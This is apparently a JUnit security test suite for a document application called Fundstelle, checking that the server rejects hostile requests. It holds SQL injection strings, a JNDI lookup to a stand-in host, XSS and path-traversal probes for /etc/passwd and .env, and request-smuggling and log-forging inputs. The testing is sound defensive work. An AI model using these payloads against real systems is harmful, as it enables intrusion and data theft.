// SPDX-FileCopyrightText: Fundstelle contributors
// SPDX-License-Identifier: EUPL-1.2
package de.fundstelle;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.IOException;
import java.net.Socket;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.logging.Handler;
import java.util.logging.Level;
import java.util.logging.LogRecord;
import java.util.logging.Logger;
import java.util.logging.SimpleFormatter;
import java.util.regex.Pattern;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/// Requests that no browser of ours makes: they get no more than others, and break nothing.
class HostileRequestsTest {

    private static final Duration LIMIT = Duration.ofSeconds(30);
    private static final String JSON = "application/json";
    private static final Map<String, String> CREDENTIALS =
            Map.of("name", "admin", "password", RunningAppliance.PASSWORD);

    private final ObjectMapper json = new ObjectMapper();

    @TempDir
    private static Path data;

    private static RunningAppliance appliance;
    private static HttpClient client;

    @BeforeAll
    static void start() throws Exception {
        appliance = RunningAppliance.start(data, Map.of("FUNDSTELLE_MODELS_EMBEDDING_PROVIDER", "none"));
        client = HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1).build();
    }

    @AfterAll
    static void stop() {
        client.close();
        appliance.close();
    }

    private HttpResponse<String> send(String method, String path, Map<String, String> headers, Map<String, ?> body)
            throws IOException, InterruptedException {
        HttpRequest.Builder request = HttpRequest.newBuilder(appliance.address().resolve(path))
                .timeout(LIMIT)
                .method(method, HttpRequest.BodyPublishers.ofString(json.writeValueAsString(body)));
        headers.forEach(request::header);
        return client.send(request.build(), HttpResponse.BodyHandlers.ofString());
    }

    @Test
    void statementsInNamesAndSearchesAreOnlyText() throws Exception {
        Caller admin = appliance.administrator();
        List<String> texts = List.of(
                "x'); DROP TABLE person; --",
                "\" OR \"\"=\"",
                "%' UNION SELECT password FROM person --",
                "{{7*7}} ${jndi:ldap://anderswo.example/a} %s%n <script>alert(1)</script>",
                "../../../etc/passwd");
        for (String text : texts) {
            String id = admin.post("/api/collections", Map.of("name", text), 201)
                    .path("id")
                    .asText();
            String document = appliance.text(id, text.replace("\"", "'") + ".txt", "Darin steht: " + text);
            assertThat(admin.get("/api/collections/" + id).path("name").asText())
                    .isEqualTo(text.strip());
            assertThat(admin.get("/api/documents?collection=" + id + "&text=" + encoded("'; DROP TABLE import --"))
                            .path("total")
                            .asInt())
                    .isZero();
            assertThat(admin.get("/api/search?collection=" + id + "&q=" + encoded(text + " Darin"))
                            .path("hits"))
                    .as(text)
                    .hasSize(1);
            assertThat(admin.answer("GET", "/api/documents/" + document + "/original", Map.of())
                            .headers()
                            .firstValue("Content-Disposition"))
                    .get()
                    .asString()
                    .matches("attachment; filename\\*=UTF-8''[A-Za-z0-9%._*-]+");
            assertThat(send(
                                    "POST",
                                    "/api/session",
                                    Map.of("Content-Type", JSON),
                                    Map.of("name", text, "password", text))
                            .statusCode())
                    .isIn(401, 429);
        }
        assertThat(admin.get("/api/people").path("people")).isNotEmpty();
    }

    private static String encoded(String text) {
        return java.net.URLEncoder.encode(text, StandardCharsets.UTF_8);
    }

    @Test
    void pagesOfOtherOriginsGetNoPermission() throws Exception {
        Map<String, String> foreign = Map.of(
                "Origin", "https://anderswo.example",
                "Access-Control-Request-Method", "POST",
                "Access-Control-Request-Headers", "content-type");
        for (String method : List.of("OPTIONS", "GET", "POST")) {
            for (String path : List.of("/", "/api/info", "/api/session", "/api/documents")) {
                assertThat(send(method, path, foreign, Map.of()).headers().map().keySet())
                        .as("%s %s", method, path)
                        .noneMatch(
                                name -> name.toLowerCase(java.util.Locale.ROOT).startsWith("access-control-"));
            }
        }
    }

    @Test
    void nobodySignsInThroughAFormOfAnotherOrigin() throws Exception {
        for (String site : List.of("cross-site", "same-site")) {
            for (String type : List.of("text/plain", "application/x-www-form-urlencoded", "application/json")) {
                HttpResponse<String> answer =
                        send("POST", "/api/session", Map.of("Content-Type", type, "Sec-Fetch-Site", site), CREDENTIALS);
                assertThat(answer.statusCode()).as("%s %s", site, type).isEqualTo(403);
                assertThat(answer.headers().firstValue("Set-Cookie")).isEmpty();
            }
        }
        for (String site : List.of("same-origin", "none")) {
            assertThat(send("POST", "/api/session", Map.of("Sec-Fetch-Site", site), CREDENTIALS)
                            .statusCode())
                    .as(site)
                    .isEqualTo(200);
        }
    }

    @Test
    void traceAndInventedMethodsDoNothing() throws Exception {
        for (String method : List.of("TRACE", "TRACK", "PROPFIND", "DEBUG")) {
            HttpResponse<String> answer = send(method, "/api/session", Map.of("X-Secret", "geheim-4711"), Map.of());
            assertThat(answer.statusCode()).as(method).isBetween(400, 501);
            assertThat(answer.body()).doesNotContain("geheim-4711");
        }
    }

    @Test
    void noFolderIsListedAndNothingHiddenIsServed() throws Exception {
        String page = send("GET", "/", Map.of(), Map.of()).body();
        for (String path : List.of(
                "/assets/",
                "/.git/config",
                "/.env",
                "/../fundstelle.db",
                "/%2e%2e/%2e%2e/etc/passwd",
                "/assets/..%2f..%2flogging.properties",
                "/logging.properties",
                "/db/migration/V1__first_layout.sql")) {
            HttpResponse<String> answer = raw(path);
            assertThat(answer == null
                            || answer.statusCode() >= 400
                            || answer.body().equals(page))
                    .as(path)
                    .isTrue();
        }
    }

    private HttpResponse<String> raw(String path) throws IOException, InterruptedException {
        return client.send(
                HttpRequest.newBuilder(URI.create(appliance.address() + path))
                        .timeout(LIMIT)
                        .build(),
                HttpResponse.BodyHandlers.ofString());
    }

    /// Who stands in front of us must not see another request in the same bytes than we do.
    @Test
    void aRequestWithTwoLengthsIsReadByOneRule() throws Exception {
        String hidden = "GET /api/info HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n";
        String both = exchange(
                "POST /api/session HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\n" + "Content-Length: "
                        + (5 + hidden.length()) + "\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + hidden);
        String twice = exchange("POST /api/session HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\n"
                + "Content-Length: 2\r\nContent-Length: " + (2 + hidden.length()) + "\r\n\r\n{}" + hidden);
        for (String answers : List.of(both, twice)) {
            assertThat(answers)
                    .as("refused, and nothing else is read from this connection")
                    .startsWith("HTTP/1.1 4");
        }
        assertThat(Pattern.compile("^HTTP/1\\.1 ", Pattern.MULTILINE)
                        .matcher(twice)
                        .results())
                .as("one answer: %s", twice)
                .hasSize(1);
    }

    private static String exchange(String bytes) throws IOException {
        try (Socket socket =
                new Socket(appliance.address().getHost(), appliance.address().getPort())) {
            socket.setSoTimeout((int) LIMIT.toMillis());
            socket.getOutputStream().write(bytes.getBytes(StandardCharsets.ISO_8859_1));
            socket.shutdownOutput();
            return new String(socket.getInputStream().readAllBytes(), StandardCharsets.ISO_8859_1);
        }
    }

    @Test
    void everythingSaysWhatItIs() throws Exception {
        String page = send("GET", "/", Map.of(), Map.of()).body();
        List<String> files = Pattern.compile("(?:src|href)=\"(/[^\"]+)\"")
                .matcher(page)
                .results()
                .map(found -> found.group(1))
                .toList();
        for (String file : files) {
            assertThat(raw(file).headers().firstValue("Content-Type"))
                    .as(file)
                    .get()
                    .asString()
                    .matches(
                            "text/(css|javascript); charset=utf-8|image/svg\\+xml; charset=utf-8|(font|image)/[a-z0-9-]+");
        }
        Caller admin = appliance.administrator();
        for (String path : List.of(
                "/api/info",
                "/api/session",
                "/api/people",
                "/api/documents",
                "/api/search?q=x",
                "/api/account/export",
                "/api/account/export?format=html",
                "/api/journal/export",
                "/api/documents/" + "0".repeat(25))) {
            HttpResponse<String> answer = admin.answer("GET", path, Map.of());
            assertThat(answer.headers().firstValue("Content-Type"))
                    .as(path)
                    .get()
                    .asString()
                    .contains("; charset=utf-8");
            assertThat(answer.headers().firstValue("Cache-Control")).as(path).isEqualTo(Optional.of("no-store"));
        }
    }

    /// Whatever a request says, a line of the log is ours.
    @Test
    void lineBreaksInRequestsMakeNoLineInTheLog() throws Exception {
        String forged = "2026-01-01T00:00:00 WARNING gefälscht";
        List<String> logged = new CopyOnWriteArrayList<>();
        Handler listener = new Handler() {
            @Override
            public void publish(LogRecord entry) {
                logged.add(new SimpleFormatter().format(entry));
            }

            @Override
            public void flush() {}

            @Override
            public void close() {}
        };
        Logger program = Logger.getLogger("de.fundstelle");
        Level before = program.getLevel();
        program.addHandler(listener);
        program.setLevel(Level.ALL);
        try {
            Map<String, String> type = Map.of("Content-Type", JSON, "User-Agent", "x gefaelscht");
            send("POST", "/api/session", type, Map.of("name", "x\r\n" + forged, "password", "\n" + forged));
            send("POST", "/api/setup", type, Map.of("code", "\n" + forged, "name", "\n" + forged));
            raw("/api/documents/%0d%0a" + encoded(forged));
            raw("/api/search?q=%0a" + encoded(forged));
            appliance
                    .administrator()
                    .answer(
                            "POST",
                            "/api/collections",
                            Map.of("name", "x\n" + forged, "readers", List.of("\n" + forged)));
        } finally {
            program.removeHandler(listener);
            program.setLevel(before);
        }
        assertThat(logged).as("something was logged").isNotEmpty();
        assertThat(logged).noneMatch(line -> line.contains("gefälscht"));
    }

    @Test
    void fieldsThatARequestDoesNotHaveChangeNothing() throws Exception {
        Caller admin = appliance.administrator();
        String id = admin.post(
                        "/api/people",
                        Map.of(
                                "name",
                                "paula",
                                "password",
                                RunningAppliance.PASSWORD,
                                "id",
                                "0",
                                "provider",
                                "https://anderswo.example",
                                "enabled",
                                false,
                                "created",
                                1),
                        201)
                .path("id")
                .asText();
        assertThat(id).hasSizeGreaterThan(20);
        Caller paula = appliance.signedIn("paula", RunningAppliance.PASSWORD);
        paula.answer(
                "PUT",
                "/api/session/password",
                Map.of(
                        "old",
                        RunningAppliance.PASSWORD,
                        "password",
                        "ein anderer Satz, noch länger",
                        "role",
                        "administrator"));
        JsonNode me = paula.get("/api/session");
        assertThat(me.at("/person/role").asText()).isEqualTo("reader");
    }

    @Test
    void parametersThatComeTwiceAreNotMixed() throws Exception {
        Caller admin = appliance.administrator();
        String first = appliance.collection("Eins");
        appliance.text(first, "eins.txt", "Der Marktbrunnen plätschert.");
        assertThat(admin.get("/api/search?q=Marktbrunnen&q=Rathaus").path("hits"))
                .hasSize(1);
        assertThat(admin.answer("GET", "/api/search?q=Marktbrunnen&limit=1&limit=999999", Map.of())
                        .statusCode())
                .isIn(200, 400);
        assertThat(admin.answer("GET", "/api/search?limit=5", Map.of("q", "Marktbrunnen"))
                        .statusCode())
                .as("a body is no query")
                .isEqualTo(400);
    }

    @Test
    void sessionsAreFoundInCookiesOnlyAndEndWithTheNextSignIn() throws Exception {
        HttpResponse<String> signedIn = send("POST", "/api/session", Map.of("Content-Type", JSON), CREDENTIALS);
        String cookie = signedIn.headers().firstValue("Set-Cookie").orElseThrow();
        assertThat(cookie).contains("HttpOnly", "SameSite=Strict", "Path=/");
        assertThat(cookie.length()).isLessThan(4096);
        String pair = cookie.substring(0, cookie.indexOf(';'));
        String token = pair.substring(pair.indexOf('=') + 1);
        assertThat(signedIn.body()).doesNotContain(token);
        assertThat(signedIn.headers().firstValue("Cache-Control")).isEqualTo(Optional.of("no-store"));

        assertThat(get("/api/session", Map.of("Cookie", pair)).statusCode()).isEqualTo(200);
        assertThat(get("/api/session?" + pair, Map.of()).statusCode()).isEqualTo(401);
        assertThat(get("/api/session?token=" + token, Map.of()).statusCode()).isEqualTo(401);
        assertThat(get("/api/session", Map.of("Authorization", "Bearer " + token))
                        .statusCode())
                .isEqualTo(401);

        send("POST", "/api/session", Map.of("Content-Type", JSON, "Cookie", pair), CREDENTIALS);
        assertThat(get("/api/session", Map.of("Cookie", pair)).statusCode()).isEqualTo(401);
    }

    private HttpResponse<String> get(String path, Map<String, String> headers)
            throws IOException, InterruptedException {
        HttpRequest.Builder request =
                HttpRequest.newBuilder(appliance.address().resolve(path)).timeout(LIMIT);
        headers.forEach(request::header);
        return client.send(request.GET().build(), HttpResponse.BodyHandlers.ofString());
    }
}
